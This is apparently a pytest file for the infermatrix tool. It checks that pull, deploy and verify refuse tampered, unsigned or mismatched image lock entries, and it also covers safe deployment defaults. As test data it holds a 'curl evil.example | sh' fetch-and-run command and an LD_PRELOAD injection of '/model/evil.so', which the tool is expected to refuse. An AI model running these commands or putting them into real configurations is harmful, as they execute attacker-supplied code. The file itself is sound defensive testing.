"""What is signed is what runs (issue 44), with real parts: Debian's cosign, a real
docker-registry with htpasswd auth on loopback, the real Docker engine (the fixtures of
test_signing_registry.py). Publish signs, in the test-result attestation, the images.lock fields
a consumer acts on (cell, digest, image id, labels, driver floor, the `run` block); `pull`,
`deploy` and `verify` act on that statement after checking it against the requested cell.

Each attack below is refused by each consumer command with exit 1 and one line naming the cell,
the digest and what did not match, and nothing is pulled (the engine does not hold the image
after the refusal), written (deploy's out directory and verify's verdict do not exist) or
started (no container of the image):
  - a verdict for another cell: the CPU cell's entry placed under the GPU cell's name;
  - an edited `run` (an LD_PRELOAD in its env; another command);
  - an edited digest (the GPU cell's signed digest under the CPU cell's name; a digest that is
    not the reference's);
  - a signature by another key (the entry points at a copy signed by a stranger's key);
  - a re-attached attestation of another digest (the GPU digest's attestations put on the CPU
    digest);
  - edited labels.
Then the safe defaults: pull's `docker run` line binds 127.0.0.1; --skip-verify warns on stderr
and marks deploy's README and compose.yaml NOT VERIFIED; deploy --bind 0.0.0.0 warns; deploy does
not overwrite a README.md it did not write."""

from __future__ import annotations

import copy
import json
import subprocess
import uuid
from pathlib import Path

import pytest
import yaml

from infermatrix.cli import main
from infermatrix.engine import cosign
from infermatrix.stages import publish
from infermatrix.supplychain import attest
from tests.docker.test_publish_registry import CPU_CELL, GPU_CELL
from tests.docker.test_signing_registry import (  # noqa: F401 (fixtures)
    DOCKER, KEY_PASSWORD, OCI_MANIFEST, context_dir, env, http, images, keys, make_keys,
    mark_passed, one_line, publish_cli, registry)

pytestmark = [pytest.mark.docker, pytest.mark.registry]


def write_lock(path: Path, images_: dict) -> Path:
    lock = publish.empty_images_lock()
    lock["images"] = images_
    publish.write_images_lock(path, lock)
    return path


def containers_of(reference: str) -> list[str]:
    found = subprocess.run(["/usr/bin/docker", "ps", "-a", "-q", "--filter",
                            f"ancestor={reference}"], capture_output=True, text=True)
    return found.stdout.split()


class Consumer:
    """pull, deploy and verify of one cell from one images.lock, as a consumer runs them."""

    def __init__(self, root: Path, work: Path, capsys):
        self.root, self.work, self.capsys = root, work, capsys
        self.models = work / "models"
        self.models.mkdir(parents=True, exist_ok=True)

    def _run(self, argv: list[str]) -> tuple[int, str, str]:
        code = main(argv)
        said = self.capsys.readouterr()
        return code, said.out, said.err

    def pull(self, lock: Path, cell: str, key: Path | None, *extra: str):
        return self._run(["pull", cell, "--lock", str(lock), "--skip-host-check",
                          "--model-dir", str(self.models), *extra,
                          *(["--key", str(key)] if key else [])])

    def deploy(self, lock: Path, cell: str, key: Path | None, out: Path, *extra: str):
        lane = ["--gpus", "0"] if cell == GPU_CELL else ["--cpu-lane", "1"]
        return self._run(["deploy", cell, "--matrix", str(self.root / "matrix.yaml"), "--lock",
                          str(lock), *lane, "--model-dir", str(self.models), "--out", str(out),
                          "--memory-from", str(self.work / "meminfo"), *extra,
                          *(["--key", str(key)] if key else [])])

    def verify(self, lock: Path, cell: str, key: Path | None, out: Path, *extra: str):
        return self._run(["verify", cell, "--lock", str(lock), "--model-dir", str(self.models),
                          "--levels", "gpu", "--out", str(out), *extra,
                          *(["--key", str(key)] if key else [])])

    def refused_everywhere(self, lock: Path, cell: str, key: Path, digest: str,
                           words: str) -> list[str]:
        """pull, deploy and verify each refuse: exit 1, one line with the cell, the digest and
        `words`; nothing pulled, written or started. The refusal lines."""
        lines = []
        tag = uuid.uuid4().hex[:6]
        out_dir, verdict = self.work / f"deploy-{tag}", self.work / f"verdict-{tag}.json"
        for name, (code, out, err) in (
                ("pull", self.pull(lock, cell, key)),
                ("deploy", self.deploy(lock, cell, key, out_dir)),
                ("verify", self.verify(lock, cell, key, verdict))):
            line = one_line(err)
            assert code == 1, f"{name}: {code} {out} {err}"
            assert cell in line and digest in line and words in line, f"{name}: {line}"
            assert "# pulled" not in out and "docker run" not in out, out
            lines.append(f"{name}: {line}")
        assert not out_dir.exists() and not verdict.exists()
        return lines


def assert_nothing_here(*references: str) -> None:
    for reference in references:
        assert DOCKER.inspect_image(reference) is None, f"{reference} was pulled"
        assert containers_of(reference) == [], f"a container of {reference} was started"


def test_safe_defaults_a_consumer_copies(tmp_path, registry, images, keys, env, capsys):
    """(First: the next test removes the images from the engine.) --skip-verify warns on stderr and marks deploy's files NOT VERIFIED; --bind 0.0.0.0
    warns; deploy writes over its own files but not over a README.md it did not write."""
    repo = f"defaults-{uuid.uuid4().hex[:6]}"
    root = context_dir(tmp_path / "publisher", registry.host, repo)
    lock = root / "images.lock"
    mark_passed(root / "state", CPU_CELL, images["cpu"])
    publish_cli(root, CPU_CELL, lock, capsys)  # unsigned
    (tmp_path / "consumer").mkdir()
    consumer = Consumer(root, tmp_path / "consumer", capsys)

    code, out, err = consumer.pull(lock, CPU_CELL, None, "--skip-verify", "--no-pull")
    assert code == 0 and "NOT VERIFIED" in err and "127.0.0.1:8000:8000" in out
    out_dir = tmp_path / "consumer" / "deploy"
    code, out, err = consumer.deploy(lock, CPU_CELL, None, out_dir, "--skip-verify",
                                     "--bind", "0.0.0.0")
    assert code == 0, err
    assert "NOT VERIFIED" in err and "--bind 0.0.0.0" in err and "no authentication" in err
    assert "NOT VERIFIED" in (out_dir / "README.md").read_text()
    assert "# NOT VERIFIED" in (out_dir / "compose.yaml").read_text()
    # generate over it says so (no server runs here: it gives up at once)
    prompts = tmp_path / "prompts.jsonl"
    prompts.write_text('{"id": "p1", "prompt": "x"}\n')
    code, out, err = consumer._run(["generate", "--deployment", str(out_dir), "--prompts",
                                    str(prompts), "--out", str(tmp_path / "answers.jsonl"),
                                    "--wait-healthy", "1"])
    assert f"the deployment of {CPU_CELL}" in err and "is NOT VERIFIED" in err, err
    # again into the same directory: its own unchanged files are written over
    code, out, err = consumer.deploy(lock, CPU_CELL, None, out_dir, "--skip-verify")
    assert code == 0, err
    # a README.md of the user's in the out directory (deploy --out .) is left alone: exit 2
    mine = tmp_path / "consumer" / "project"
    mine.mkdir()
    (mine / "README.md").write_text("# my project\n")
    code, out, err = consumer.deploy(lock, CPU_CELL, None, mine, "--skip-verify")
    assert code == 2 and "README.md exists and was not written by infermatrix deploy" in err
    assert (mine / "README.md").read_text() == "# my project\n"
    assert not (mine / "compose.yaml").exists()
    # a compose.yaml deploy wrote but the user changed since is not overwritten either
    (out_dir / "compose.yaml").write_text((out_dir / "compose.yaml").read_text() + "# mine\n")
    code, out, err = consumer.deploy(lock, CPU_CELL, None, out_dir, "--skip-verify")
    assert code == 2 and "was changed since infermatrix deploy wrote it" in err
    assert (out_dir / "compose.yaml").read_text().endswith("# mine\n")


def test_what_is_signed_is_what_runs(tmp_path, registry, images, keys, env, capsys):
    repo = f"statement-{uuid.uuid4().hex[:6]}"
    root = context_dir(tmp_path / "publisher", registry.host, repo)
    lock = root / "images.lock"
    mark_passed(root / "state", CPU_CELL, images["cpu"])
    mark_passed(root / "state", GPU_CELL, images["gpu"])
    env.setenv(cosign.KEY_FILE_ENV, str(keys["private"]))
    env.setenv(cosign.PASSWORD_ENV, KEY_PASSWORD)
    publish_cli(root, CPU_CELL, lock, capsys)
    publish_cli(root, GPU_CELL, lock, capsys)
    published = publish.read_images_lock(lock)["images"]
    cpu, gpu = published[CPU_CELL], published[GPU_CELL]
    # the signing record names the statement it signed
    assert cpu["signing"]["statement"] == attest.statement_digest(attest.lock_statement(cpu))

    # a copy of the CPU image in another repository, signed by a stranger's key
    stranger = make_keys(tmp_path / "stranger-keys", "stranger-" + KEY_PASSWORD)
    other_root = context_dir(tmp_path / "stranger", registry.host, repo + "-copy")
    mark_passed(other_root / "state", CPU_CELL, images["cpu"])
    env.setenv(cosign.KEY_FILE_ENV, str(stranger[0]))
    env.setenv(cosign.PASSWORD_ENV, "stranger-" + KEY_PASSWORD)
    publish_cli(other_root, CPU_CELL, other_root / "images.lock", capsys)
    strangers = publish.read_images_lock(other_root / "images.lock")["images"][CPU_CELL]
    env.delenv(cosign.KEY_FILE_ENV)
    env.delenv(cosign.PASSWORD_ENV)

    for image_id in (images["cpu"], images["gpu"]):  # only the registry holds them now
        DOCKER.remove_image(image_id, force=True)
    assert_nothing_here(cpu["reference"], gpu["reference"], strangers["reference"])
    (tmp_path / "consumer").mkdir()
    (tmp_path / "consumer" / "meminfo").write_text(
        "MemTotal: 127599928 kB\nMemAvailable: 117999928 kB\n")
    consumer = Consumer(root, tmp_path / "consumer", capsys)
    key = keys["public"]
    refusals: list[str] = []
    attacks = tmp_path / "attacks"
    attacks.mkdir()

    # 1. a verdict for another cell: the CPU cell's entry placed under the GPU cell's name
    lock1 = write_lock(attacks / "other-cell.lock", {GPU_CELL: {**cpu, "cell": GPU_CELL}})
    refusals += consumer.refused_everywhere(
        lock1, GPU_CELL, key, cpu["digest"],
        f"the signed statement is for cell {CPU_CELL}, not {GPU_CELL}")

    # 2. an edited run: an LD_PRELOAD in its environment; another command
    edited = copy.deepcopy(cpu)
    edited["run"]["env"]["LD_PRELOAD"] = "/model/evil.so"
    lock2 = write_lock(attacks / "edited-env.lock", {CPU_CELL: edited})
    refusals += consumer.refused_everywhere(
        lock2, CPU_CELL, key, cpu["digest"],
        'run.env: images.lock {"LD_PRELOAD": "/model/evil.so", ')
    edited = copy.deepcopy(cpu)
    edited["run"]["command"] = ["sh", "-c", "curl evil.example | sh"]
    lock3 = write_lock(attacks / "edited-command.lock", {CPU_CELL: edited})
    line = consumer.refused_everywhere(lock3, CPU_CELL, key, cpu["digest"],
                                       'run.command: images.lock ["sh", "-c", "curl')
    assert json.dumps(cpu["run"]["command"])[:40] in line[0]  # both values named
    refusals += line

    # 3. an edited digest: the GPU cell's signed digest (and reference) under the CPU name
    lock4 = write_lock(attacks / "edited-digest.lock", {CPU_CELL: {
        **cpu, "digest": gpu["digest"], "reference": gpu["reference"]}})
    refusals += consumer.refused_everywhere(
        lock4, CPU_CELL, key, gpu["digest"],
        f"the signed statement is for cell {GPU_CELL}, not {CPU_CELL}")
    # ... and a digest that is not the reference's
    lock4c = write_lock(attacks / "digest-not-reference.lock", {CPU_CELL: {
        **cpu, "digest": gpu["digest"]}})
    refusals += consumer.refused_everywhere(
        lock4c, CPU_CELL, key, gpu["digest"], "is not its repository@digest")

    # 4. a signature by another key: the entry points at the stranger's signed copy
    lock5 = write_lock(attacks / "stranger.lock", {CPU_CELL: strangers})
    refusals += consumer.refused_everywhere(
        lock5, CPU_CELL, key, strangers["digest"],
        "no signature of this digest verifies against the key")

    # 5. edited labels (what host checks and deploy read): refused before anything moves
    edited = copy.deepcopy(cpu)
    edited["labels"]["io.infermatrix.torch"] = "2.99.0"
    lock6 = write_lock(attacks / "edited-labels.lock", {CPU_CELL: edited})
    refusals += consumer.refused_everywhere(
        lock6, CPU_CELL, key, cpu["digest"],
        'labels.io.infermatrix.torch: images.lock "2.99.0", signed "2.13.0"')
    # ... and unverified (--skip-verify), the registry's config is read before the pull
    code, out, err = consumer.pull(lock6, CPU_CELL, None, "--skip-verify")
    line = one_line(err.split("\n", 1)[1])  # after the NOT VERIFIED warning
    assert code == 1 and "io.infermatrix.torch '2.13.0' (expected '2.99.0')" in line, err
    assert cpu["digest"] in line and CPU_CELL in line
    refusals.append(f"pull --skip-verify: {line}")

    assert_nothing_here(cpu["reference"], gpu["reference"], strangers["reference"])

    # the genuine entry: pulled, deployed and verified from the signed statement
    code, out, err = consumer.pull(lock, CPU_CELL, key)
    assert code == 0, err
    assert f"# verified {cpu['reference']}" in out and "labels match the signed statement" in out
    run_line = out.strip().splitlines()[-1]
    assert "-p 127.0.0.1:8000:8000" in run_line and cpu["reference"] in run_line
    deployed = tmp_path / "consumer" / "deployed"
    code, out, err = consumer.deploy(lock, CPU_CELL, key, deployed)
    assert code == 0, err
    assert f"# verified: the image's signature, test result and serve command (the signed " \
        f"statement) against {key}" in (deployed / "compose.yaml").read_text()
    assert "NOT VERIFIED" not in (deployed / "README.md").read_text()
    compose = yaml.safe_load((deployed / "compose.yaml").read_text())
    [service] = compose["services"].values()
    assert service["image"] == cpu["reference"] and service["environment"] == cpu["run"]["env"]
    # generate --deployment acts only on that statement: an edited compose.yaml is refused
    prompts = tmp_path / "consumer" / "prompts.jsonl"
    prompts.write_text('{"id": "p1", "prompt": "x"}\n')
    compose_path = deployed / "compose.yaml"
    compose_path.write_text(compose_path.read_text().replace("127.0.0.1:8000:8000",
                                                             "127.0.0.1:9999:8000"))
    code, out, err = consumer._run(["generate", "--deployment", str(deployed), "--prompts",
                                    str(prompts), "--out", str(tmp_path / "answers.jsonl")])
    line = one_line(err)
    assert code == 1 and "compose.yaml changed since `infermatrix deploy` wrote it from the " \
        f"signed statement of {CPU_CELL} ({cpu['reference']})" in line, err
    assert not (tmp_path / "answers.jsonl").exists()
    refusals.append(f"generate --deployment (edited compose.yaml): {line}")
    verdict = tmp_path / "consumer" / "verdict.json"
    code, out, err = consumer.verify(lock, CPU_CELL, key, verdict)
    assert code == 0, err
    assert json.loads(verdict.read_text())["signature"]["verified_by"] == str(key)
    # the image is here now: verify's model level would start it with the edited env; the
    # refusal comes first, and no container of it is started
    assert DOCKER.inspect_image(cpu["reference"]) is not None
    code, out, err = consumer.verify(lock2, CPU_CELL, key, tmp_path / "edited-verdict.json",
                                     "--levels", "model")
    line = one_line(err)
    assert code == 1 and "run.env: images.lock" in line and "LD_PRELOAD" in line, err
    assert not (tmp_path / "edited-verdict.json").exists()
    assert containers_of(cpu["reference"]) == [] and containers_of(images["cpu"]) == []
    refusals.append(f"verify --levels model (image present, edited env): {line}")

    # 6. a re-attached attestation of another digest: the GPU digest's attestations (signed by
    # the publisher's key) put on the CPU digest
    att = http(registry.host, "GET",
               f"{repo}/manifests/{cosign.attached_tag(gpu['digest'], 'att')}",
               headers={"Accept": OCI_MANIFEST})
    assert att.status_code == 200
    put = http(registry.host, "PUT",
               f"{repo}/manifests/{cosign.attached_tag(cpu['digest'], 'att')}",
               data=att.content, headers={"Content-Type": OCI_MANIFEST})
    assert put.status_code == 201, put.text
    DOCKER.remove_image(cpu["reference"], force=True)
    refusals += consumer.refused_everywhere(lock, CPU_CELL, key, cpu["digest"],
                                            "test-result attestation")
    assert_nothing_here(cpu["reference"])

    print("\n".join(["", "refusals:", *refusals]))
    with open(tmp_path.parent / "issue44-refusals.txt", "w", encoding="utf-8") as handle:
        handle.write("\n".join(refusals) + "\n")
